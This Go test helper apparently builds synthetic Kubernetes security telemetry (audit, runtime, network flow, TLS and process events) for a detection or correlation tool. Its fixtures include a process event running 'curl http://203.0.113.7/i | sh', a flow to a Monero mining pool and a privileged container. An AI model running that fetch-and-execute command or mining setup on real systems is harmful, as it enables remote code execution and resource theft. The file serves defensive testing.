package partition_test

import (
	"fmt"
	"net/netip"

	"tidewaiter/event"
	"tidewaiter/image"
)

// pod tells that a container is in a pod, as the API server, the kubelet, the
// runtime and sensors may: each is there or missing, and pods share names.
func (w *worldMaker) pod(n int, id string, ref image.Reference, imageNo int, addr netip.Addr, start int64) {
	rng := w.rng
	host := w.host
	o := event.ObjectRef{Kind: "Pod", Namespace: "prod", Name: fmt.Sprintf("web-%d", rng.IntN(2)), UID: fmt.Sprintf("u%d", n)}
	if w.maybe(20) {
		o.UID = ""
	}
	owner := event.ObjectRef{Kind: "ReplicaSet", Namespace: "prod", Name: "web-5b7"}
	spec := &event.PodSpec{Containers: []event.ContainerSpec{
		{Name: "web", Kind: event.MainContainer, Image: ref, PullPolicy: "Always", Probes: [][]string{{"/bin/sh", "-c", "wget http://198.51.100.99/health"}}},
		{Name: "side", Kind: event.InitContainer, Image: image.Parse("good.example/side:1"), Risk: event.Risk{Privileged: true}},
	}}
	if w.maybe(40) {
		labels := map[string]string{"io.kubernetes.pod.namespace": "prod", "io.kubernetes.pod.name": o.Name, "io.kubernetes.pod.uid": o.UID, "io.kubernetes.container.name": "web"}
		w.add(event.Containerd, start+20*event.Millisecond, 1, &event.Container{Action: event.ContainerUpdate, ID: id, Image: ref, Labels: labels})
	}
	if w.maybe(20) {
		w.add(event.CRI, start, 1, &event.Sandbox{Action: event.ContainerCreate, ID: "sandbox-" + o.Name, Object: o})
		w.add(event.CRI, start+event.Millisecond, 1, &event.Container{Action: event.ContainerCreate, ID: id, Name: "web", Sandbox: "sandbox-" + o.Name})
	}
	w.host = "" // what follows is told of the cluster, not of the node
	defer func() { w.host = host }()
	if w.maybe(60) {
		w.add(event.KubeAudit, start-2*event.Second, event.Microsecond, &event.Pod{Verb: event.VerbCreate, Object: o, Owner: owner, Code: 201, Spec: spec, By: event.Principal{Name: "controller"}})
	}
	if w.maybe(40) {
		w.add(event.KubeAudit, start-3*event.Second, event.Microsecond, &event.Workload{Verb: event.VerbCreate, Object: event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"},
			Code: 201, Template: spec, By: event.Principal{Name: []string{"alice", "bob"}[rng.IntN(2)]}})
	}
	if w.maybe(60) {
		w.add(event.KubeAudit, start+3*event.Second, event.Microsecond, &event.PodStatus{Object: o, Node: host, Addrs: []netip.Addr{addr},
			Containers: []event.ContainerStatus{{Name: "web", ID: id, Image: ref, ImageID: digest(imageNo)}}})
	}
	for _, reason := range []string{"Scheduled", "Pulling", "Pulled", "Created", "Started"} {
		if w.maybe(40) {
			w.add(event.KubeEvents, start, event.Second, &event.KubeEvent{Object: o, Container: "web", Reason: reason, Image: ref, Present: w.maybe(20), Node: host})
		}
	}
	if w.maybe(50) {
		of := &event.PodRef{Namespace: "prod", Pod: o.Name, Workload: event.ObjectRef{Kind: "Deployment", Namespace: "prod", Name: "web"}}
		src, dst := netip.AddrPortFrom(addr, 4000), netip.MustParseAddrPort([]string{"203.0.113.66:3333", "198.51.100.10:80"}[rng.IntN(2)])
		w.add(event.Hubble, start+10*event.Second, 1, &event.Flow{Protocol: "tcp", Src: src, Dst: dst, SrcPod: of, Answered: true, DstNames: []string{"pool.minexmr.com"}[:rng.IntN(2)]})
		w.add(event.Zeek, start+11*event.Second, event.Microsecond, &event.TLS{Client: src, Server: dst, ServerName: "x.example"})
	}
	if w.maybe(30) {
		w.add(event.Tetragon, start+20*event.Second, 1, &event.Process{PID: 400, PPID: 399, Exe: "/bin/sh", Args: []string{"sh", "-c", "curl http://203.0.113.7/i | sh"}, AUID: -1,
			Container: []string{"", id, id[:31]}[rng.IntN(3)], Of: &event.PodRef{Namespace: "prod", Pod: o.Name, UID: o.UID}})
	}
	if w.maybe(20) {
		w.add(event.KubeAudit, start+int64(rng.IntN(1500))*event.Second, event.Microsecond, &event.Pod{Verb: event.VerbDelete, Object: o, Code: 200})
	}
	if w.maybe(20) {
		w.add(event.KubeAudit, start+60*event.Second, event.Microsecond, &event.PodAccess{Action: "exec", Object: o, Container: "web", Command: []string{"sh"}, Code: 101})
	}
}
